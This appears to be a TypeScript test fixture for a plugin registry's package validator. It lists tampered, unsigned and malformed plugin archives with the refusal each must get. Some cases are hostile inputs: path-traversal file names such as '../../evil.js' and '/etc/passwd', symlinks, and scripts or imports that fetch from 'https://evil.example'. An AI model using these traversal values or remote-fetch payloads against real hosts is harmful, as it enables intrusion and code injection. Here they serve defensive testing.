import { type Change, ENTRY, keyPair, PAGE } from '../../../../../../testing/test-archive.ts';
import type { RefusalReason } from '../index.ts';

const only = (name: RegExp, to: (content: Buffer) => Buffer) => (files: Map<string, Buffer>) => {
  for (const [file, content] of files) if (name.test(file)) files.set(file, to(content));
};
const manifest = (edit: (made: Record<string, unknown>) => void): Change => ({
  manifest: (made) => {
    const copy: Record<string, unknown> = structuredClone(made);
    edit(copy);
    return copy;
  },
});
const script = (body: string): Change => ({
  page: `System.register(["react"],function(e,n){"use strict";return{setters:[function(){}],execute:function(){${body}}}});`,
});
const strangerKey = keyPair().privateKey;
const nested = (depth: number): string => (depth === 0 ? '"x"' : `{"a":${nested(depth - 1)}}`);

/** Packages that are broken or mean harm: how each is made, and what it is refused with. */
export const hostile: [what: string, change: Change, reason: RefusalReason, says: RegExp][] = [
  [
    'a script altered on the way',
    { files: only(/^Cash/, (c) => Buffer.concat([c, Buffer.from(' ')])) },
    'integrity',
    /altered/,
  ],
  ['texts altered on the way', { files: only(/^texts/, () => Buffer.from('{}')) }, 'integrity', /altered/],
  [
    'a manifest altered after signing',
    { files: only(/^manifest/, (c) => Buffer.concat([c, Buffer.from(' ')])) },
    'signature',
    /altered after it was signed/,
  ],
  ['a stranger’s key', { signer: { privateKey: strangerKey } }, 'signature', /not signed with the key/],
  ['no signature', { files: (files) => void files.delete('signature.json') }, 'signature', /not signed/],
  ['an empty signature', { signature: () => ({}) }, 'signature', /another form/],
  ['a signature that is no JSON', { files: only(/^signature/, () => Buffer.from('{')) }, 'signature', /another form/],
  ['a signature with more in it', { signature: (one) => ({ ...one, algorithm: 'none' }) }, 'signature', /another form/],
  ['a signature of nothing', { signature: (one) => ({ ...one, signature: '' }) }, 'signature', /not signed with/],
  [
    'a signature of another length',
    { signature: (one) => ({ ...one, signature: 'AAAA' }) },
    'signature',
    /not signed with/,
  ],
  ['a key that ended', { signer: { keyId: 'old' } }, 'signature', /ended on 2026-01-31/],
  ['an unknown key', { signer: { keyId: 'mine' } }, 'signature', /has no key "mine"/],
  ['an unknown publisher', { signer: { publisher: 'nobody' } }, 'publisher', /nobody knows/],
  [
    'another publisher’s name',
    { signature: (one) => ({ ...one, publisher: 'others' }) },
    'signature',
    /not signed with/,
  ],
  [
    'a publisher that signs for another',
    { description: { publisher: 'kituo' } },
    'publisher',
    /of kituo and was signed by nairobi-loans/,
  ],
  [
    'a path that climbs out',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '../../evil.js' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'an absolute path',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '/etc/passwd' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a folder in a name',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: 'a/b.js' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a backslash in a name',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '..\\evil.js' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a hidden file',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '.npmrc' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a symbolic link',
    {
      headers: (h) => (/^Cash/.test(h.name) ? { ...h, size: 0, type: 'symlink', linkname: '/etc/passwd' } : h),
      page: '',
    },
    'archive',
    /is a symlink/,
  ],
  [
    'a hard link',
    {
      headers: (h) => (/^Cash/.test(h.name) ? { ...h, size: 0, type: 'link', linkname: 'manifest.json' } : h),
      page: '',
    },
    'archive',
    /is a link/,
  ],
  [
    'a device',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, size: 0, type: 'character-device' } : h), page: '' },
    'archive',
    /is a character-device/,
  ],
  [
    'a file twice',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: 'manifest.json' } : h) },
    'archive',
    /twice/,
  ],
  [
    'a stowaway',
    { files: (files) => void files.set('extra.js', Buffer.from('')) },
    'integrity',
    /extra\.js is not in manifest/,
  ],
  [
    'a missing file',
    {
      files: (files) => {
        for (const name of files.keys()) if (/^Cash/.test(name)) files.delete(name);
      },
    },
    'integrity',
    /is missing/,
  ],
  ['a file of 6 MB', { page: `/*${'x'.repeat(6_000_000)}*/${PAGE}` }, 'size', /more than 5 MB/],
  ['a manifest of 600 KB', manifest((m) => void (m['padding'] = 'x'.repeat(600_000))), 'size', /500 KB/],
  ['a manifest that is no JSON', { manifest: () => '{"format":1' }, 'manifest', /not JSON/],
  [
    'a manifest of deep nesting',
    { manifest: () => `${'['.repeat(50_000)}${']'.repeat(50_000)}` },
    'manifest',
    /manifest\.json/,
  ],
  ['a manifest of another format', manifest((m) => void (m['format'] = 2)), 'manifest', /format/],
  ['a name with a path', { description: { name: '../home' } }, 'manifest', /name/],
  ['a version with a path', { description: { version: '1.0.0/../../x' } }, 'manifest', /version/],
  [
    'a page outside the console',
    { description: { pages: [{ name: 'Cash', path: '/Login', titleKey: 't', module: 'src/a.tsx' }] } },
    'manifest',
    /path/,
  ],
  ['a field nobody knows', { description: { privileged: true } }, 'manifest', /does not know privileged/],
  ['no pages', { description: { pages: [] } }, 'manifest', /pages/],
  ['an entry that is a style', manifest((m) => void (m['entry'] = 3)), 'integrity', /no \.js/],
  ['an index of nothing', manifest((m) => void (m['entry'] = 99)), 'integrity', /no \.js/],
  ['a negative index', manifest((m) => void (m['entry'] = -1)), 'integrity', /no \.js/],
  ['a page that was not built', manifest((m) => void (m['pages'] = [])), 'integrity', /Cash was not built/],
  ['a newer SDK', { description: { sdk: '^9.0.0' } }, 'incompatible', /SDK \^9\.0\.0/],
  ['another React', manifest((m) => void (m['react'] = 18)), 'incompatible', /React 18/],
  ['a script that is no module', { page: 'fetch("https://evil.example")' }, 'script', /not one System\.register/],
  ['a script before the module', { page: `alert(1);${PAGE}` }, 'script', /not one System\.register/],
  ['a script that does not parse', { page: 'System.register([' }, 'script', /is not a script/],
  [
    'an import by address',
    { page: PAGE.replace('"react"', '"https://evil.example/x.js"') },
    'script',
    /imports "https/,
  ],
  ['an import of the host', { page: PAGE.replace('"react"', '"@kituo/host"') }, 'script', /imports "@kituo\/host"/],
  [
    'an import of another plugin',
    { page: PAGE.replace('"react"', '"../../users/0.1.0/plugin.js"') },
    'script',
    /imports "\.\.\//,
  ],
  ['an import that is computed', script('n.import("./"+location.hash)'), 'script', /not written out/],
  ['an import of a file that is not there', script('n.import("./Other.js")'), 'script', /is not in it/],
  ['import() past the loader', script('import("data:text/javascript,1")'), 'script', /past the host/],
  [
    'React’s inside by name',
    script('e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE'),
    'script',
    /reaches into React/,
  ],
  [
    'React’s inside in quotes',
    script('e["__SECRET_INTERNALS_DO_NOT_USE_OR_YOU_WILL_BE_FIRED"]'),
    'script',
    /reaches into React/,
  ],
  ['React’s inside in a template', script('e[`__SERVER_INTERNALS_x`]'), 'script', /reaches into React/],
  ['React’s inside taken apart', script('const {__CLIENT_INTERNALS_x: inside}=e'), 'script', /reaches into React/],
  ['React’s inside with escapes', script('e.\\u005f_CLIENT_INTERNALS_x'), 'script', /reaches into React/],
  [
    'an API it does not declare',
    script('return {path:"user/getUserList",method:"POST"}'),
    'capability',
    /calls user\//,
  ],
  ['giant texts', { texts: JSON.stringify({ title: 'x'.repeat(500_000) }) }, 'texts', /400 KB/],
  ['one giant text', { texts: JSON.stringify({ title: 'x'.repeat(5_000) }) }, 'texts', /5000 characters/],
  ['texts that are no JSON', { texts: '{' }, 'texts', /not JSON/],
  ['texts that are a list', { texts: '["x"]' }, 'texts', /no text/],
  ['texts that are numbers', { texts: '{"title":7}' }, 'texts', /no text/],
  ['texts nested too deep', { texts: nested(9) }, 'texts', /too deep/],
  [
    'texts of a language that is missing',
    { description: { locales: ['en', 'zh'] } },
    'texts',
    /texts of zh are missing/,
  ],
  ['a budget above company policy', { description: { budgetKb: 4_000 } }, 'budget', /company policy allows 150/],
  ['a page above its budget', { description: { budgetKb: 0.1 } }, 'budget', /Cash costs/],
  [
    'sizes that are not true',
    manifest((m) => {
      const list = m['files'];
      if (Array.isArray(list)) m['files'] = list.map((f: object) => ({ ...f, brotliBytes: 0 }));
    }),
    'budget',
    /manifest\.json says 0/,
  ],
  [
    'an entry that loads a stranger',
    { entry: ENTRY.replace('./PAGE', 'https://evil.example/x.js') },
    'script',
    /imports "https/,
  ],
];

/** What its author is told to do, by reason: what to type, or which file to change. */
export const mends: Readonly<Record<RefusalReason, RegExp>> = {
  size: /^(Leave out what pages do not need, or load it from the server|Split the section)/,
  archive: /^(Make it with "kituo-plugin publish"|Pack plain files alone|Upload the whole file)/,
  signature: /^Sign (it anew: kituo-plugin publish --key|with a key that stands in registry\/publis)/,
  publisher: /(your public key into|"publisher" in plugin\.json to the name in) registry\/publishers\//,
  manifest: /^(Build it with "kituo-plugin build"|Mend (".+"|it) in plugin\.json and build it again)/,
  integrity: /^Build it with "kituo-plugin build" and change nothing in it afterwards\.$/,
  incompatible: /^(Move it on with "kituo-plugin upgrade"|Build it with the SDK of this host)/,
  script: /^(Build it with "kituo-plugin build"|The host provides react, @kituo\/sdk, |Use what react)/,
  texts: /locales\/|"locales" in plugin\.json/,
  capability: /^Add "user\/" to "capabilities\.api" in plugin\.json\.$/,
  budget: /"budgetKb" in plugin\.json|^Build it with "kituo-plugin build" and change nothing/,
  exists: /raise the version in plugin\.json/,
};
